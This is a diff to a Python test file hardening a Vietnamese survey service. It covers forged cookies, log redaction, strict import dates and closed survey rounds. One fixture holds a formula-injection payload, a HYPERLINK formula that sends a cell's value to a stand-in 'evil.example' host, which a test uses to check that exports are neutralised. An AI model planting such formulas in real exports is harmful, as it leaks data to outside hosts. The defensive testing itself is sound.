@@ -5,15 +5,19 @@ from __future__ import annotations
 
 import csv
 import io
+import logging
 import re
 from datetime import date, timedelta
+from types import SimpleNamespace
 
 import openpyxl
 import pandas as pd
 import pytest
 import sqlalchemy as sa
 
-from survey_service.models import Agency, AuditEvent, Draft, Response, Sheet, SheetState
+from survey_service.models import (
+    Agency, AuditEvent, CodeBatch, Draft, InvitationCode, QuotaCell, Response, Sheet, SheetEvent, SheetState,
+)
 from survey_service.services import imports, invitations, keying, rounds, sheets, tabular
 from survey_service.web import NUL_MESSAGE, safe_next
 from tests.conftest import collect_from_today, csrf_token_from
@@ -73,10 +77,40 @@ def test_nul_in_the_login_form_is_a_400(app, client, make_user, session):
     assert client.post("/", data={"code": "ABCD\x00"}).status_code == 400
 
 
+# --- secrets compared with what a client sends ------------------------------------------------------------
+@pytest.mark.parametrize("cookie", ["1|" + "é" * 128, "1.0|" + "0" * 128, "Đ"])
+def test_a_remember_me_cookie_is_ignored_whatever_it_holds(app, client, make_user, cookie):
+    user = make_user("admin", username="quantri")
+    client.set_cookie("remember_token", cookie.replace("1", str(user.id), 1))
+    answer = client.get("/staff/")
+    assert answer.status_code == 302 and "/staff/login" in answer.headers["Location"]
+
+
+# --- what the error log gets -----------------------------------------------------------------------------
+def test_an_unexpected_database_error_logs_where_it_failed_not_what_it_was_writing(app, client, caplog):
+    from survey_service.db import get_session
+
+    said = "Câu trả lời không vào nhật ký lỗi 5521"
+
+    def write_half_an_answer():
+        get_session().execute(sa.text("INSERT INTO answer (item_code, value) VALUES (:item, :value)"),
+                              {"item": "E18", "value": said})
+
+    app.add_url_rule("/write-half-an-answer", "half_answer", write_half_an_answer)
+    caplog.set_level(logging.INFO, logger="sqlalchemy.engine")  # statements logged too, as with echo on
+    with caplog.at_level(logging.DEBUG):
+        answer = client.get("/write-half-an-answer")
+    assert answer.status_code == 500 and "Lỗi hệ thống" in answer.get_data(as_text=True)
+    assert "INSERT INTO answer" in caplog.text
+    assert "sqlalchemy.exc.IntegrityError" in caplog.text and "half_answer" in caplog.text
+    assert "in write_half_an_answer" in caplog.text and "test_hardening.py" in caplog.text  # where
+    assert "5521" not in caplog.text and "không vào" not in caplog.text  # not what
+
+
 # --- ids, pages and CSV files that overflowed ----------------------------------------------------------
 def test_revoke_with_an_overflowing_or_unicode_digit_id_is_a_400(app, loaded_round, session, staff_client):
     cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
-    batch = invitations.issue_codes(session, cell, 2, actor="test")
+    batch = invitations.issue_codes(session, cell, 2, today=loaded_round.opens_on, actor="test")
     session.commit()
     client = staff_client("supervisor")
     for bad in ("99999999999999999999", "²", "-1", "0", " 1"):
@@ -191,6 +225,137 @@ def test_import_refuses_a_closed_round_and_days_outside_its_window(app, loaded_r
     assert report.responses == 1
 
 
+NOT_YYYY_MM_DD = "không đúng dạng YYYY-MM-DD (ví dụ 2023-10-01, không có khoảng trắng hay ký tự nào khác)"
+#: Dates Python would read (date.fromisoformat, strptime or after strip()) that are not written YYYY-MM-DD.
+LAX_DATES = ["20231001", "2023-10-1", " 2023-10-01", "2023-10-01 ", "\xa02023-10-01", "2023-10-01\xa0",
+             "2023-W40-1", "٢٠٢٣-١٠-٠١", "２０２３-１０-０１", "2023-10-01T00:00"]
+
+
+def test_an_imported_date_is_exactly_yyyy_mm_dd(app, loaded_round, session, staff_client):
+    builder = Builder(session, loaded_round)
+    day = date(2023, 10, 1)
+    written = [*LAX_DATES, "2023-02-30", day.isoformat()]
+    rows = [builder.row("CC-CT", "SNV", "3", submitted_on=text) for text in written]
+    with pytest.raises(imports.ImportRejected) as rejected:
+        imports.import_responses(session, loaded_round, csv_bytes(rows), today=day, actor="test")
+    expected = [f"dòng {line}: ngày {text!r} {NOT_YYYY_MM_DD}." for line, text in enumerate(LAX_DATES, 2)]
+    expected.append(f"dòng {len(LAX_DATES) + 2}: ngày '2023-02-30' không phải một ngày có thật.")
+    assert [str(e) for e in rejected.value.errors] == expected  # every row but the last, YYYY-MM-DD one
+    assert count(session, Response) == 0
+    blank = [builder.row("CC-CT", "SNV", "3", submitted_on=" "), rows[-1]]  # a blank cell: the import date
+    report = imports.import_responses(session, loaded_round, csv_bytes(blank), today=day, actor="test")
+    assert report.responses == 2
+    assert set(session.scalars(sa.select(Response.submitted_on))) == {day}
+
+    session.rollback()
+    collect_from_today(session, loaded_round)
+    upload = csv_bytes([builder.row("CC-CT", "SNV", "3", submitted_on="20261201")])
+    page = staff_client("supervisor").post("/staff/responses/QNA-2023/import",
+                                           data={"file": (io.BytesIO(upload), "ngay.csv")},
+                                           content_type="multipart/form-data")
+    html = page.get_data(as_text=True)
+    assert page.status_code == 422 and f"dòng 2: ngày &#39;20261201&#39; {NOT_YYYY_MM_DD}." in html
+    assert count(session, Response) == 0
+
+
+CLOSED = "đã kết thúc nhận phiếu"
+
+
+@pytest.fixture(params=["closed_early", "past_its_date"])
+def closed_round(request, loaded_round, session):
+    """QNA-2023 after its close, early (*Đóng đợt*) or by its date, with what it issued while open: a batch of
+    CC-CT codes for Sở Nội vụ and its two LĐH-CH sheets."""
+    rnd = loaded_round
+    collect_from_today(session, rnd)
+    cell = invitations.find_cell(session, rnd, "CC-CT", "SNV")
+    batch = invitations.issue_codes(session, cell, 2, actor="test")
+    plans = sheets.paper_cells(session, rnd, form_code="LĐH-CH", agency_code="SNV")
+    issued = sheets.issue_sheets(session, rnd, plans, actor="test")
+    session.commit()
+    if request.param == "closed_early":
+        rounds.close(session, rnd, secret="test-secret", actor="test")
+    else:
+        today = rounds.local_today()
+        rnd.opens_on, rnd.closes_on = today - timedelta(days=30), today - timedelta(days=1)
+    session.commit()
+    return SimpleNamespace(round=rnd, cell=cell, batch=batch, sheet=issued[0])
+
+
+def collected(session) -> dict:
+    """Everything issuing codes, printing, returns and soft-closes write."""
+    session.expire_all()
+    soft_closed = sa.select(QuotaCell.id).where(QuotaCell.soft_closed.is_(True))
+    tables = (CodeBatch, InvitationCode, Sheet, SheetEvent)
+    return {model.__name__: count(session, model) for model in tables} | {
+        "states": sorted((s.serial, s.state.value) for s in session.scalars(sa.select(Sheet))),
+        "soft_closed": sorted(session.scalars(soft_closed)),
+        "audit": session.scalar(sa.select(sa.func.count()).where(AuditEvent.object_type != "staff_user"))}
+
+
+def test_a_closed_round_takes_no_codes_sheets_returns_or_soft_close_on_its_pages(
+        closed_round, session, client, auth, make_user):
+    rnd, cell, serial = closed_round.round, closed_round.cell, closed_round.sheet.serial
+    supervisor, clerk = make_user("supervisor"), make_user("clerk")
+    before = collected(session)
+
+    def refused(url: str, data: dict) -> str:
+        answer = client.post(url, data=data)
+        html = answer.get_data(as_text=True)
+        assert answer.status_code == 409 and CLOSED in html and "gia hạn (mở lại) đợt" in html, (url, data)
+        return html
+
+    auth.login(supervisor.username)
+    refused(f"/staff/codes/cells/{cell.id}/issue", {"count": "5"})
+    refused(f"/paper/print?round={rnd.code}", {"cell_choice": "LĐH-CH|SNV", "extra": "1"})
+    refused(f"/paper/ledger/{serial}/reprint", {})  # refused before it asks to confirm
+    refused(f"/paper/ledger/{serial}/reprint", {"confirmed": "1"})
+    for closed in ("1", "0"):
+        for confirmed in ({}, {"confirmed": "1"}):  # refused before it asks to confirm, and after
+            refused(f"/staff/dashboard/{rnd.code}/cells/{cell.id}/soft-close", {"closed": closed} | confirmed)
+    # what it collected can still be read and exported
+    for url in (f"/staff/codes/?round={rnd.code}", f"/staff/codes/batches/{closed_round.batch.id}.csv",
+                f"/paper/ledger?round={rnd.code}", f"/paper/ledger/{serial}", f"/staff/dashboard/{rnd.code}",
+                f"/staff/dashboard/{rnd.code}/quotas.csv", f"/staff/results/{rnd.code}/"):
+        assert client.get(url).status_code == 200, url
+    auth.logout()
+    auth.login(clerk.username)
+    page = refused(f"/paper/returns?round={rnd.code}", {"codes": serial})
+    assert "Chưa ghi nhận phiếu nào" in page and serial in page  # the scanned serials stay in the box
+    assert collected(session) == before
+
+
+def test_a_closed_round_takes_no_codes_sheets_or_returns_from_the_command_line(closed_round, runner, session,
+                                                                               tmp_path):
+    rnd, serial = closed_round.round, closed_round.sheet.serial
+    before = collected(session)
+    out = tmp_path / "out"
+    for args in (["codes", "issue", "--round", rnd.code, "--form", "CC-CT", "--agency", "SNV", "--count", "3",
+                  "--out", str(out)],
+                 ["sheets", "print", "--round", rnd.code, "--form", "LĐH-CH", "--extra", "1",
+                  "--out", str(out)],
+                 ["sheets", "reprint", serial, "--out", str(out)],
+                 ["sheets", "return", "--round", rnd.code, serial]):
+        result = runner.invoke(args=args)
+        assert result.exit_code == 1 and CLOSED in result.output, (args, result.output)
+        assert "Traceback" not in result.output and not out.exists(), args
+    assert collected(session) == before
+    status = runner.invoke(args=["sheets", "status", "--round", rnd.code])
+    assert status.exit_code == 0 and "LĐH-CH" in status.output
+
+
+def test_issuing_and_returns_work_again_once_the_round_is_reopened(closed_round, session):
+    rnd = closed_round.round
+    with pytest.raises(invitations.InvitationError) as refused:
+        invitations.issue_codes(session, closed_round.cell, 1, actor="test")
+    assert refused.value.status == 409 and CLOSED in str(refused.value)
+    today = rounds.local_today()
+    rounds.schedule(session, rnd, today - timedelta(days=1), today + timedelta(days=1), actor="test")
+    assert invitations.issue_codes(session, closed_round.cell, 1, today=today, actor="test").count == 1
+    report = sheets.record_returns(session, rnd, [closed_round.sheet.serial], ["test-sheet-key"], today=today,
+                                   by=None, actor="test")
+    assert [s.serial for s in report.recorded] == [closed_round.sheet.serial]
+
+
 # --- formula injection -------------------------------------------------------------------------------
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Sở Nội vụ")'
 
@@ -211,7 +376,7 @@ def test_no_export_carries_a_live_formula(app, loaded_round, evil_agency, sessio
     client = staff_client("supervisor")
     rnd = loaded_round
     cell = invitations.find_cell(session, rnd, "CC-CT", "SNV")
-    batch = invitations.issue_codes(session, cell, 1, actor="test")
+    batch = invitations.issue_codes(session, cell, 1, today=rnd.opens_on, actor="test")
     session.commit()
     for url in (f"/staff/dashboard/{rnd.code}/progress.csv", f"/staff/dashboard/{rnd.code}/quotas.csv",
                 f"/staff/codes/batches/{batch.id}.csv"):
@@ -269,7 +434,7 @@ def test_openapi_declares_the_form_codes(app, client):
 def test_exports_are_not_cached_and_https_gets_hsts(app, loaded_round, session, staff_client):
     client = staff_client("supervisor")
     cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
-    batch = invitations.issue_codes(session, cell, 1, actor="test")
+    batch = invitations.issue_codes(session, cell, 1, today=loaded_round.opens_on, actor="test")
     session.commit()
     for url in (f"/staff/codes/batches/{batch.id}.csv", f"/staff/codes/batches/{batch.id}.pdf",
                 f"/staff/dashboard/{loaded_round.code}/progress.xlsx", f"/staff/results/{loaded_round.code}/download.csv"):
